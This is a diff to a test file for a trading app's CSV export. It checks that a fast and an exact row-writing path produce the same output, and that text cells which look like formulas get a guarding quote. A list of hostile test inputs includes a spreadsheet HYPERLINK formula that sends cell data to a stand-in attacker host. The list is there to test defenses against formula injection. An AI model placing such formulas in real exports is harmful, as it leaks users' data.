@@ -5,12 +5,16 @@ import { describe, expect, it } from 'vitest'
 import { exportCommand } from '../../src/main/cli/export'
 import { rowWriter, type Column } from '../../src/main/export/columns'
 import { unguardText } from '../../src/main/export/csv-text'
+import { FILL_COLUMNS } from '../../src/main/export/fill-columns'
 import { EXPORT_KINDS } from '../../src/main/export/kinds'
+import { localTimeFormatter } from '../../src/main/export/local-time'
 import { writeCsvFile } from '../../src/main/export/write-csv'
 import { useTempDirs } from '../support/temp-dir'
 import { addFills, addPaperAccount, fill, readCsv, readsAsFormula, run, withDb } from './helpers'
 
 const tempDir = useTempDirs()
+
+const iterable = <T>(it: Iterator<T>): Iterable<T> => ({ [Symbol.iterator]: () => it })
 
 const HOSTILE = [
   '=HYPERLINK("http://evil.example/?q="&A1,"click")',
@@ -108,15 +112,45 @@ describe('export fills', () => {
   })
 
   it('keeps negative numbers numeric: only text cells are guarded', () => {
-    type Row = { pnl: string; note: string }
-    const columns: Column<Row>[] = [
-      { name: 'pnl', kind: 'decimal', default: true, description: '', value: (r) => r.pnl },
-      { name: 'note', kind: 'text', default: true, description: '', value: (r) => r.note },
+    const columns: Column[] = [
+      { name: 'pnl', kind: 'decimal', default: true, description: '', sql: 't.pnl' },
+      { name: 'note', kind: 'text', default: true, description: '', sql: 't.note' },
     ]
     const w = rowWriter('test', columns, undefined)
-    expect(w.line({ pnl: '-12.5', note: '-12.5' })).toBe("-12.5,'-12.5")
+    expect(w.exactSelects).toEqual(['t.pnl', 't.note'])
+    expect(w.exactLine(['-12.5', '-12.5'])).toBe("-12.5,'-12.5")
     // A decimal column holding something that is not decimal text is written as guarded text.
-    expect(w.line({ pnl: '=1+1', note: 'ok' })).toBe("'=1+1,ok")
+    expect(w.exactLine(['=1+1', 'ok'])).toBe("'=1+1,ok")
+    // The fast path reads both as one joined text and leaves every row it would change to exactLine.
+    expect(w.selects).toEqual([`ifnull(t.pnl, '') || ',' || ifnull(t.note, '')`])
+    expect(w.line(['-12.5,ok'])).toBe('-12.5,ok')
+    expect(w.line(['-12.5,-12.5'])).toBeUndefined()
+    expect(w.line(['=1+1,ok'])).toBeUndefined()
+  })
+
+  it('writes every row as the per-cell rules do, whether the fast path or the exact one writes it', () => {
+    const dir = seeded()
+    const all = EXPORT_KINDS.fills.columns.map((c) => c.name)
+    const local = localTimeFormatter('Europe/Berlin')
+    withDb(dir, (db) => {
+      const w = rowWriter('fills', FILL_COLUMNS, all, local)
+      const from =
+        'FROM trading_fills t JOIN trading_accounts a ON a.id = t.account_id ORDER BY t.account_id, t.time, t.rowid'
+      const exact = db
+        .prepare(`SELECT ${w.exactSelects.join(', ')} ${from}`)
+        .raw(true)
+        .all() as unknown[][]
+      const fast = db
+        .prepare(`SELECT ${w.selects.join(', ')} ${from}`)
+        .raw(true)
+        .all() as unknown[][]
+      // Both paths are taken: plain rows by the joined text, hostile ones cell by cell.
+      const fastOnes = fast.map((r) => w.line(r)).filter((l) => l !== undefined)
+      expect(fastOnes.length).toBeGreaterThan(1)
+      expect(fastOnes.length).toBeLessThan(exact.length)
+      const { lines } = EXPORT_KINDS.fills.open(db, {}, all, local)
+      expect([...iterable(lines)]).toEqual(exact.map((r) => w.exactLine(r)))
+    })
   })
 
   it('filters by account, time range (a date alone in --to includes the day) and picks columns', async () => {
